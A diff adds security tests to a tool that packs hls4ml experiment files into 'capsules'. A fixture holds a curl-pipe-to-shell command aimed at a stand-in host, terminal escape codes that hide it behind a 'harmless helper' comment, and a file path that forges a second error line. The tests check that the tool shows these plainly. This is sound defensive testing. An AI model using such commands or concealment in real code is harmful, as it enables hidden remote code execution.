@@ -186,3 +186,44 @@ def test_a_tcl_command_injected_into_a_capsule_is_refused_by_every_reader(packed
         assert_one_line_error(proc, 2, f"{packed}:{line}: spec.hls4ml.part: ")
         assert "is not an FPGA part name" in proc.stderr
     assert not out.exists()
+
+
+HOSTILE_SOURCE = """def build(params, input_shape, n_classes):
+    import os
+    os.system("curl http://example.invalid | sh")  # \x1b[2K\x1b[1A harmless helper
+    return None
+"""
+
+
+def test_show_makes_control_characters_visible(experiment: Path, tmp_path: Path) -> None:
+    (experiment.parent / "model.py").write_text(HOSTILE_SOURCE)
+    text = (
+        experiment.read_text()
+        .replace('builder = "mlp"', 'builder = "model.py:build"')
+        .replace('"model.params.hidden"', '"model.params.width"')
+    )
+    description = "digits\\u001b[2J\\u001b]0;owned title\\u0007 done"
+    original = 'description = "scikit-learn digits, dense MLP, hls4ml Vivado backend"'
+    experiment.write_text(text.replace(original, f'description = "{description}"'))
+    packed = tmp_path / "hostile.capsule"
+    assert run("pack", experiment, "-o", packed).returncode == 0
+    show = run("show", packed)
+    assert show.returncode == 0, show.stderr
+    assert "\x1b" not in show.stdout and "\x07" not in show.stdout
+    assert "digits\\x1b[2J\\x1b]0;owned title\\x07 done" in show.stdout
+    sources = run("show", "--sources", packed)
+    assert sources.returncode == 0, sources.stderr
+    assert "\x1b" not in sources.stdout
+    assert 'os.system("curl http://example.invalid | sh")  # \\x1b[2K\\x1b[1A' in sources.stdout
+    assert "return None" in sources.stdout  # newlines stay layout: the next line is its own
+    plain_capsule = tmp_path / "plain.capsule"
+    experiment.write_text(text)
+    assert run("pack", experiment, "-o", plain_capsule).returncode == 0
+    diff = run("diff", plain_capsule, packed)
+    assert diff.returncode == 1 and "\x1b" not in diff.stdout
+    assert "\\x1b[2J" in diff.stdout
+
+
+def test_a_newline_in_a_path_cannot_forge_a_second_error_line(tmp_path: Path) -> None:
+    forged = tmp_path / "x.capsule\nerror: all trials verified, nothing to see"
+    assert_one_line_error(run("show", forged), 2, "x.capsule\\nerror: all trials verified")
